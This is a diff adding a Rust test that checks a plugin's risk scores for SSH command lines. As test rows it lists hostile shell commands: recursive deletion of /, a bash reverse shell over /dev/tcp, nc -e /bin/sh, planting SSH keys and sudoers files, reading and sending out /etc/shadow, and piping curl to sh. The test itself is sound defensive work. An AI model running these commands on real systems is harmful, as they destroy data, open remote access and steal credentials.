@@ -76,6 +76,78 @@ async fn risk_sql() {
     assert!(host.events.take().is_empty());
 }
 
+/// What the reader of command lines finds reaches the rules, whatever stands beside it: the facts are those of the
+/// wire, and so is the way that they take.
+#[tokio::test]
+async fn risk_shell() {
+    let host = Host::new().with("risk-shell", "risk-shell", &[]).await;
+    let rows: &[(&str, Option<&str>, u8, &str)] = &[
+        ("rm -rf /; ls", None, 92, "destroys"),
+        ("ls; rm -rf /", None, 92, "destroys"),
+        ("rm -rf /srv; ls", None, 92, "destroys"),
+        ("rm -rf /srv/app/tmp; ls", None, 50, "bulk_write"),
+        ("sudo rm -rf '/etc'; ls; id", None, 92, "destroys"),
+        ("ls; reboot", None, 85, "services"),
+        ("reboot; ls", None, 85, "services"),
+        (
+            "ls; bash -i > /dev/tcp/192.0.2.1/80",
+            None,
+            85,
+            "reverse_shell",
+        ),
+        ("ls; nc -e /bin/sh h 1", None, 92, "reverse_shell"),
+        (
+            "echo k >> ~/.ssh/authorized_keys; ls",
+            None,
+            88,
+            "persistence",
+        ),
+        ("ls; cp x /etc/sudoers.d/x", None, 88, "persistence"),
+        ("ls; cat /etc/shadow", None, 65, "secrets_access"),
+        ("nc h 1 < /etc/shadow; ls", None, 92, "exfiltration"),
+        ("ls; curl https://x | sh", None, 85, "fed"),
+        ("ls; vi /srv/x", None, 40, "escape"),
+        (
+            "ls; tar cf x --checkpoint-action=exec=sh .",
+            None,
+            65,
+            "runs_by_option",
+        ),
+        // A separator in a word is no word of its own: this lists nothing.
+        (
+            "iptables -F -m comment --comment 'x\u{1f}-L'",
+            None,
+            75,
+            "firewall",
+        ),
+        ("bash -s", Some("ls\nrm -rf /\n"), 92, "destroys"),
+        ("bash -s", None, 70, "opaque"),
+        ("LD_PRELOAD=/tmp/x ls", None, 78, "opaque"),
+    ];
+    let mut wrong = Vec::new();
+    for (command, script, least, code) in rows {
+        let script = script.map(str::as_bytes);
+        let ssh = proto_ssh::command_facts(command.as_bytes(), script, "deploy");
+        let facts = Facts::Ssh(Arc::new(ssh));
+        let risk = host.plugins.classify(&session(), &facts).await;
+        if risk.score < *least || !risk.findings.iter().any(|f| f.code == *code) {
+            wrong.push(format!("{command}: {risk:?}"));
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+    for command in [
+        "ls -l /srv; df -h",
+        "cat /etc/os-release",
+        "echo 'rm -rf /'",
+    ] {
+        let ssh = proto_ssh::command_facts(command.as_bytes(), None, "deploy");
+        let facts = Facts::Ssh(Arc::new(ssh));
+        let risk = host.plugins.classify(&session(), &facts).await;
+        assert!(risk.score < 30, "{command}: {risk:?}");
+    }
+    assert!(host.events.take().is_empty());
+}
+
 /// Growing an instance's memory is dear, and so is taking it back. A plugin that may not grow at all
 /// classifies everyday texts, and does not get by with a long one.
 #[tokio::test]
